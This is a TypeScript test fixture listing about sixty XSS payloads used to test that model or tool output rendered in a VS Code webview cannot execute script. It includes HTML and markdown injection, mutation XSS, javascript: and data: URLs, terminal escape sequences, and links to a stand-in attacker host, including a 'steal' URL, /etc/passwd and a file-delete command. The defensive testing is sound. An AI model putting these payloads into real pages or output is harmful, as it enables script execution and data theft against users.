/**
 * Hostile strings a model (or a tool, a file name, a command's output) could produce. Each one, if
 * it ever ran, calls `window.__pwned(id)`, sets `window.__xss`, opens a dialog, navigates, or asks
 * the network for something. Shared by the Chromium XSS test and the real-VS-Code e2e test.
 *
 * `url: true` marks payloads that make sense where a URL is expected (image URLs, links).
 */
export interface XssPayload {
  id: string;
  text: string;
  url?: boolean;
}

const raw: Array<[string, boolean?]> = [
  // Plain HTML injection
  ['<script>__pwned("s1")</script>'],
  ['<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['<img src=x onerror=__pwned("s3")>'],
  ['<img src="x" onerror="window.__xss=1">'],
  ['<svg onload=__pwned("s5")>'],
  ['<svg><script>__pwned("s6")</script></svg>'],
  ['<svg><animate onbegin=__pwned("s7") attributeName=x dur=1s>'],
  ['<iframe src="javascript:__pwned(\'s8\')"></iframe>'],
  ['<iframe srcdoc="<script>parent.__pwned(\'s9\')</script>"></iframe>'],
  ['<object data="javascript:__pwned(\'s10\')"></object>'],
  ['<embed src="data:text/html,<script>__pwned(\'s11\')</script>">'],
  ['<body onload=__pwned("s12")>'],
  ['<details open ontoggle=__pwned("s13")>x</details>'],
  ['<input autofocus onfocus=__pwned("s14")>'],
  ['<video><source onerror=__pwned("s15")></video>'],
  ['<audio src=x onerror=__pwned("s16")>'],
  ['<marquee onstart=__pwned("s17")>x</marquee>'],
  ['<a href="javascript:__pwned(\'s18\')">click me</a>'],
  ['<form action="javascript:__pwned(\'s19\')"><button>go</button></form>'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['<base href="https://evil.example/">'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/bg)}</style>'],
  ['<div style="background-image:url(https://evil.example/s)">styled</div>'],
  ['"><img src=x onerror=__pwned("s25")>'],
  ["' onmouseover='__pwned(\"s26\")' x='"],
  ['</pre></code></div><script>__pwned("s27")</script>'],
  ['<!--<img src="--><img src=x onerror=__pwned("s28")>-->'],
  // Mutation XSS and parser confusion
  ['<math><mtext><table><mglyph><style><img src=x onerror=__pwned("s29")>'],
  ['<noscript><p title="</noscript><img src=x onerror=__pwned(\'s30\')>">'],
  ['<xmp><img src=x onerror=__pwned("s31")></xmp>'],
  ['<template><img src=x onerror=__pwned("s32")></template>'],
  ['<form id="app"><input name="dataset"></form><img name="acquireVsCodeApi">'],
  ['<scr<script>ipt>__pwned("s34")</scr</script>ipt>'],
  // Markdown-specific
  ['[click](javascript:__pwned("s35"))'],
  ['[click](JaVaScRiPt:__pwned("s36"))'],
  ['[click](java\tscript:__pwned("s37"))'],
  ['[click](&#106;avascript:__pwned("s38"))'],
  ['[click](<javascript:__pwned("s39")>)'],
  ['![img](javascript:__pwned("s40"))'],
  ['![img](https://evil.example/pixel.png)'],
  ['[data](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCdzNDInKTwvc2NyaXB0Pg==)'],
  ['[ref]\n\n[ref]: javascript:__pwned("s43")'],
  ['<javascript:__pwned("s44")>'],
  ['[vscode](command:workbench.action.terminal.new)'],
  ['[vs](vscode://vscode.git/clone?url=https://evil.example/r)'],
  ['```html\n<script>__pwned("s47")</script>\n```\n<img src=x onerror=__pwned("s47b")>'],
  ['```\nunclosed fence <img src=x onerror=__pwned("s48")>'],
  ['**bold <img src=x onerror=__pwned("s49")>** _em_ `code <script>__pwned()</script>`'],
  ['| a | b |\n|---|---|\n| <img src=x onerror=__pwned("s50")> | [x](javascript:__pwned()) |'],
  ['<https://evil.example/autolink> and https://evil.example/bare'],
  // Templates, escapes, terminal sequences
  ['{{constructor.constructor("__pwned(\'s52\')")()}} ${__pwned("s52b")}'],
  ['\u001b]8;;javascript:__pwned("s53")\u0007click\u001b]8;;\u0007 \u001b[31mred\u001b[0m'],
  ['\u0000<img src=x onerror=__pwned("s54")>\u2028\u2029'],
  ['%3Cscript%3E__pwned("s55")%3C%2Fscript%3E &lt;script&gt;__pwned("s55b")&lt;/script&gt;'],
  // URL-shaped payloads (for image URLs, links, elicitation URLs)
  ['javascript:__pwned("u1")', true],
  ['data:text/html,<script>__pwned("u2")</script>', true],
  ['data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcHduZWQoJ3UzJykiLz4=', true],
  ['vbscript:msgbox("u4")', true],
  ['https://evil.example/steal?c=1', true],
  ['command:workbench.action.files.delete', true],
  ['file:///etc/passwd', true],
];

export const XSS_PAYLOADS: XssPayload[] = raw.map(([text, url], i) => ({ id: `XSS-${String(i + 1).padStart(2, '0')}`, text, url: url === true }));

/** A payload with its id appended as a visible marker (text fields). */
export function marked(p: XssPayload): string {
  return `${p.text} [${p.id}]`;
}
